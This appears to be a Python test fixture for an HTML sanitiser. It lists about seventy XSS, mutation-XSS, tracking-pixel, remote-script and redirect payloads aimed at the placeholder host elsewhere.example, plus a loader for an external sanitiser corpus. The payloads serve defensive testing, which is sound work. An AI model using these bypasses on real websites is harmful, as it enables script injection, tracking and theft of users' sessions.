"""HTML that tries to run, to load, to leave or to cover something: one example a trick, for the gate and for a browser."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

ELSEWHERE = "http://elsewhere.example/"
_CORPUS = next((place for parent in Path(__file__).resolve().parents if (place := parent / "shared" / "corpus" / "html").is_dir()), None)

SAMPLES = (
    # runs at once
    "<script>ran()</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<script\x00>ran()</script>",
    "<p>words<script/x>ran()</script><script>ran()",
    "<![CDATA[<script>ran()</script>]]>",
    "<!--[if gte mso 9]><script>ran()</script><![endif]-->",
    "<!--><script>ran()</script>-->",
    "<? echo('<script>ran()</script>') ?>",
    # runs when something fails, loads, moves or is seen
    "<img src=x onerror=ran()>",
    "<img src=x:y/onerror=ran()//>",
    '<img """><img src=q onerror="ran()">">',
    "<img/src=`x`onerror=ran()>",
    "<body onload=ran()><p>words",
    "<details open ontoggle=ran()><summary>words</summary></details>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    "<marquee onstart=ran()>words</marquee>",
    "<p style='animation:x 1s' onanimationstart=ran()>words</p>",
    "<a href='#x' onpointerenter=ran()>words</a>",
    # runs when it is followed
    "<a href='javascript:ran()'>words</a>",
    "<a href='java&#9;script:ran()'>words</a>",
    "<a href=' &#14; javascript:ran()'>words</a>",
    "<a href='JaVaScRiPt&colon;ran()'>words</a>",
    "<a href='vbscript:ran()'>words</a>",
    "<a href='data:text/html,<script>ran()</script>'>words</a>",
    "<a href='javascript://%0aran()'>words</a>",
    "<a href='blob:http://elsewhere.example/1'>words</a>",
    "<form action='javascript:ran()'><button>words</button></form>",
    "<button formaction='javascript:ran()'>words</button>",
    "<map name=m><area href='javascript:ran()' shape=default></map><img usemap=#m>",
    # what one reader takes for text and the next for an element
    "<svg><script>ran()</script></svg>",
    "<svg onload=ran()>",
    "<svg><animate attributeName=href values='javascript:ran()' /><a><text>words</text></a></svg>",
    "<svg><style><img src=x onerror=ran()></style></svg>",
    "<math><mi xlink:href='javascript:ran()'>words</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<textarea><p title='</textarea><img src=x onerror=ran()>'>",
    "<title><p title='</title><img src=x onerror=ran()>'>",
    "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
    "<template><img src=x onerror=ran()></template>",
    "<select><style></select><img src=x onerror=ran()></style>",
    "<p title='&lt;img src=x onerror=ran()&gt;'>words</p>",
    "<table><td background='javascript:ran()'>words</table>",
    "<a id=x name=getElementById>words</a><form id=y><input name=attributes></form>",
    # loads something, and so tells the sender who reads
    f"<img src='{ELSEWHERE}a.gif' width=1 height=1>",
    "<img src='//elsewhere.example/b.gif'>",
    "<img src='\\\\elsewhere.example\\b.gif'>",
    f"<img srcset='{ELSEWHERE}c.gif 2x'>",
    f"<picture><source srcset='{ELSEWHERE}d.gif'><img alt=words></picture>",
    f"<p style='background:url({ELSEWHERE}e.gif)'>words</p>",
    f"<p style='background:u\\72l({ELSEWHERE}f.gif)'>words</p>",
    f"<p style='color:red;/*;*/background:url({ELSEWHERE}f2.gif) #fff;font-family:\"a;background:url({ELSEWHERE}f3.gif)\"'>words</p>",
    f"<p style='list-style:image-set(\"{ELSEWHERE}g.gif\" 1x)'>words</p>",
    f"<p style='content:/**/url/**/({ELSEWHERE}h.gif)'>words</p>",
    f"<table background='{ELSEWHERE}i.gif'><tr><td>words</table>",
    f"<style>@import '{ELSEWHERE}j.css'; p {{ background: url({ELSEWHERE}k.gif) }}</style><p>words</p>",
    f"<link rel=stylesheet href='{ELSEWHERE}l.css'><link rel=prefetch href='{ELSEWHERE}m'><link rel=dns-prefetch href='//elsewhere.example'>",
    f"<iframe src='{ELSEWHERE}n'></iframe><iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    f"<object data='{ELSEWHERE}o'></object><embed src='{ELSEWHERE}p'>",
    f"<video src='{ELSEWHERE}q' autoplay poster='{ELSEWHERE}r.gif'></video><audio src='{ELSEWHERE}s' autoplay></audio>",
    f"<input type=image src='{ELSEWHERE}t.gif'>",
    f"<svg><image href='{ELSEWHERE}u.gif' /><use href='{ELSEWHERE}v.svg#x' /></svg>",
    f"<p style='font-family:x;src:url({ELSEWHERE}w.woff)'>words</p>",
    f"<a ping='{ELSEWHERE}x' href='{ELSEWHERE}'>words</a>",
    # leaves, or changes what relative addresses mean
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href='{ELSEWHERE}'><img src='y.gif'><a href='z'>words</a>",
    # covers what stands around it
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>words</div>",
    "<p style='width:expression(ran());behavior:url(#default#time2);-moz-binding:url(x)'>words</p>",
)


def corpus() -> Iterator[str]:
    """What the makers of sanitisers try theirs with, where their samples stand beside the project; nothing else."""
    for path in sorted(_CORPUS.glob("*/expected.json")) if _CORPUS else ():
        table = json.loads(path.read_text("utf-8"))
        rows = table if isinstance(table, list) else []
        yield from (row["input"] for row in rows if isinstance(row, dict) and isinstance(row.get("input"), str))
